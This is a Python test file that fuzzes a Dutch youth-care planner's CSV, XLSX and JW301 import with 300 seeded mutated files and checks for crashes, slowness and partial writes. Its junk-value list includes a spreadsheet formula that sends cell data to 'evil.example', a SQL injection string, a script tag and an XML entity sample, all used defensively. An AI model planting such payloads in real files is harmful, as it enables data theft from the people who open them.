"""A bounded, seeded fuzz of the import (issue 22): 300 mutated CSV, XLSX and JW301 files made from the samples.

For every file: preview and commit on a fresh copy of the Flevoland sample bundle (the library the CLI
and the web share). Counted and asserted: 0 tracebacks (any exception but the Dutch ``ImportRefused``),
0 runs over 20 s, 0 partial writes (after a commit the bundle holds either every file of the preview or
none, and always loads). A slice of the files also goes through ``planner import`` (no traceback, an exit
code of the table in the README) and through the web's preview (never a 500). Seeded: the same 300 files
on every run, so a failure names a file that can be rebuilt.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import time
import zipfile
from pathlib import Path

import pytest

from planner.bundle import load_bundle
from planner.importing import ImportRefused, commit_import, preview_import
from planner.importing.tables import bundle_hashes

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data" / "flevoland"
JW301 = sorted((ROOT / "sample_data" / "jw301").glob("*.xml"))
SEED = 22
PER_KIND = 100  # CSV, XLSX and JW301: 300 files
MAX_SECONDS = 20.0
CSV_TABLES = ["medewerkers.csv", "jeugdigen.csv", "toewijzingen.csv", "beschikbaarheid.csv", "afwezigheid.csv",
              "inschrijvingen.csv", "groepen.csv"]
JUNK = ["=HYPERLINK(\"http://evil.example/?d=\"&C2,\"x\")", "-2+3", "@SUM(A1)", "\t=1", "", " ", "é", "ä\u0000x",
        "\ufeff", "\"", "\"\"\"", ";", ",", "\r\n", "9" * 40, "-1", "1e309", "NaN", "2026-02-30", "31-12-9999",
        "Jan de Vries-Bakker", "<script>", "' OR 1=1 --", "\u202e", "x" * 5000]


# --- the files -----------------------------------------------------------------
def _mutate_bytes(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        op = rng.choice(["flip", "cut", "insert", "dup", "delete"])
        if not b:
            b = bytearray(b"x")
        i = rng.randrange(len(b))
        if op == "flip":
            b[i] = rng.randrange(256)
        elif op == "cut":
            del b[i:]
        elif op == "insert":
            b[i:i] = rng.choice([b"\x00", b"\xff\xfe", b"<", b"&#0;", b"]]>", b'"', b"\r", rng.randbytes(8)])
        elif op == "dup":
            j = min(len(b), i + rng.randint(1, 200))
            b[i:i] = b[i:j] * rng.randint(1, 20)
        else:
            del b[i:i + rng.randint(1, 50)]
    return bytes(b)


def _mutate_rows(rng: random.Random, text: str) -> str:
    lines = text.splitlines()
    for _ in range(rng.randint(1, 4)):
        op = rng.choice(["cell", "cell", "drop", "dup", "header", "delim", "quote"])
        i = rng.randrange(len(lines))
        cells = lines[i].split(",")
        if op == "cell":
            cells[rng.randrange(len(cells))] = rng.choice(JUNK)
            lines[i] = ",".join(cells)
        elif op == "drop" and len(lines) > 1:
            del lines[i]
        elif op == "dup":
            lines.insert(i, lines[i])
        elif op == "header":
            head = lines[0].split(",")
            head[rng.randrange(len(head))] = rng.choice(["bsn", "naam", "", "id", "ID ", "initialen", "onbekend"])
            lines[0] = ",".join(head)
        elif op == "delim":
            lines[i] = lines[i].replace(",", rng.choice([";", "\t", "|"]))
        else:
            lines[i] = '"' + lines[i]
    return "\n".join(lines) + "\n"


def csv_file(rng: random.Random) -> tuple[str, bytes]:
    name = rng.choice(CSV_TABLES)
    text = (SAMPLE / name).read_text("utf-8")
    if rng.random() < 0.7:
        text = _mutate_rows(rng, text)
    data = text.encode(rng.choice(["utf-8", "utf-8-sig", "cp1252", "utf-16"]), errors="replace")
    if rng.random() < 0.4:
        data = _mutate_bytes(rng, data)
    return name, data


def _workbook(rng: random.Random) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name in rng.sample(CSV_TABLES, rng.randint(1, 3)):
        ws = wb.create_sheet(name.removesuffix(".csv"))
        text = (SAMPLE / name).read_text("utf-8")
        if rng.random() < 0.6:
            text = _mutate_rows(rng, text)
        for line in text.splitlines()[:60]:
            ws.append([re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "?", c) for c in line.split(",")])
        if rng.random() < 0.1:
            ws.cell(rng.choice([5, 500, 100_002, 1_048_576]), rng.choice([3, 300, 16_384]), "ver weg")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _mutate_zip(rng: random.Random, data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    names = src.namelist()
    victim = rng.choice([n for n in names if n.endswith(".xml")])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n in names:
            part = src.read(n)
            if n == victim:
                op = rng.choice(["bytes", "drop", "dimension", "empty", "entity", "sharedstring"])
                if op == "bytes":
                    part = _mutate_bytes(rng, part)
                elif op == "drop":
                    continue
                elif op == "dimension":
                    part = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', part)
                elif op == "empty":
                    part = b""
                elif op == "entity":
                    part = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;&a;</x>'
                else:
                    part = re.sub(rb"<v>\d+</v>", b"<v>99999</v>", part)
            z.writestr(n, part)
    return out.getvalue()


def xlsx_file(rng: random.Random) -> tuple[str, bytes]:
    data = _workbook(rng)
    r = rng.random()
    if r < 0.5:
        data = _mutate_zip(rng, data)
    elif r < 0.8:
        data = _mutate_bytes(rng, data)
    return rng.choice(["medewerkers.xlsx", "import.xlsx", "toewijzingen.xlsx"]), data


def jw301_file(rng: random.Random) -> tuple[str, bytes]:
    data = rng.choice(JW301).read_bytes()
    op = rng.random()
    if op < 0.2:
        enc = rng.choice([b"x-onbekend", b"utf-16", b"ebcdic", b"latin-1", b"UTF-32", b""])
        data = re.sub(rb'encoding="[^"]*"', b'encoding="' + enc + b'"', data, count=1)
    elif op < 0.4:
        text = data.decode("utf-8")
        tags = re.findall(r"<(\w+:)?(\w+)>([^<]+)</", text)
        if tags:
            _p, tag, _v = rng.choice(tags)
            text = re.sub(rf"(<(?:\w+:)?{tag}>)[^<]*(</)", lambda m: m.group(1) + rng.choice(
                ["", "0", "99999999999999999999", "2026-02-30", "&amp;", "Jan de Vries-Bakker", "-1"]) + m.group(2),
                text, count=1)
        data = text.encode("utf-8")
    if rng.random() < 0.6:
        data = _mutate_bytes(rng, data)
    return rng.choice(["jw301.xml", "bericht.xml"]), data


def fuzz_files() -> list[tuple[str, str, bytes]]:
    rng = random.Random(SEED)
    out = []
    for kind, make in (("csv", csv_file), ("xlsx", xlsx_file), ("jw301", jw301_file)):
        for i in range(PER_KIND):
            name, data = make(rng)
            out.append((f"{kind}-{i:03d}", name, data))
    return out


# --- the checks ------------------------------------------------------------------
def _state(root: Path) -> dict[str, bytes | None]:
    files = {}
    for p in sorted(root.rglob("*")):
        if p.is_file():
            files[str(p.relative_to(root))] = p.read_bytes()
    return files


def run_one(bundle: Path, name: str, data: bytes) -> tuple[str, float]:
    """'' when the file behaved, else what went wrong; and the seconds it took."""
    before = _state(bundle)
    start = time.monotonic()
    try:
        preview = preview_import(bundle, data, name)
        summary = preview.summary()
        if not preview.ok:
            assert preview.issues and all(i.reason.strip() for i in preview.issues), summary
        try:
            commit_import(bundle, preview)
            committed = True
        except ImportRefused as e:
            assert str(e).strip()
            committed = False
    except Exception as e:
        return f"traceback: {type(e).__name__}: {str(e)[:200]}", time.monotonic() - start
    seconds = time.monotonic() - start
    after = _state(bundle)
    if not committed:
        if after != before:
            return "partial write: a refused import changed the bundle", seconds
        return "", seconds
    expected = {**before, **{rel: text.encode("utf-8") for rel, text in preview.files.items()}}
    if after != expected:
        return "partial write: the bundle is not the preview's files", seconds
    try:
        load_bundle(bundle)
    except Exception as e:
        return f"committed bundle does not load: {type(e).__name__}", seconds
    if bundle_hashes(bundle) == {}:
        return "no bundle", seconds
    return "", seconds


def test_300_mutated_import_files(tmp_path):
    files = fuzz_files()
    assert len(files) == 300
    failures, slow = [], []
    for label, name, data in files:
        bundle = tmp_path / label
        shutil.copytree(SAMPLE, bundle)
        problem, seconds = run_one(bundle, name, data)
        if problem:
            failures.append(f"{label} ({name}): {problem}")
        if seconds > MAX_SECONDS:
            slow.append(f"{label} ({name}): {seconds:.1f} s")
        shutil.rmtree(bundle)
    assert not failures, "\n".join(failures)
    assert not slow, "\n".join(slow)


def test_cli_never_shows_a_traceback(tmp_path):
    from typer.testing import CliRunner

    import planner.cli_io  # noqa: F401 - registers 'import'
    from planner.cli import app

    runner = CliRunner()
    for label, name, data in fuzz_files()[::10]:  # 30 files, every kind
        bundle = tmp_path / label
        shutil.copytree(SAMPLE, bundle)
        path = tmp_path / f"{label}-{name}"
        path.write_bytes(data)
        result = runner.invoke(app, ["import", str(bundle), str(path), "--commit"])
        assert result.exception is None or isinstance(result.exception, SystemExit), (label, result.exception)
        assert "Traceback" not in result.output and result.exit_code in (0, 1, 2), (label, result.output[-500:])


def test_web_preview_never_answers_500(sqlite_app):
    from tests.web.conftest import client_for, login

    client = client_for(sqlite_app)
    token = login(client, "pl")
    for label, name, data in fuzz_files()[5::10]:  # another 30 files, every kind
        r = client.post("/importeren/voorvertoning", data={"csrf_token": token}, files={"bestand": (name, data)})
        assert r.status_code in (200, 422), (label, r.status_code)
        assert "Traceback" not in r.text and "Er ging iets mis" not in r.text, label


@pytest.mark.parametrize("label", ["xlsx-far-cell"])
def test_far_away_cell_is_refused_quickly(label, tmp_path):
    from tests.web.test_hardening import far_cell_xlsx

    bundle = tmp_path / "b"
    shutil.copytree(SAMPLE, bundle)
    start = time.monotonic()
    preview = preview_import(bundle, far_cell_xlsx(), "medewerkers.xlsx")
    assert time.monotonic() - start < 5 and not preview.ok
    assert "buiten het bereik" in preview.issues[0].reason
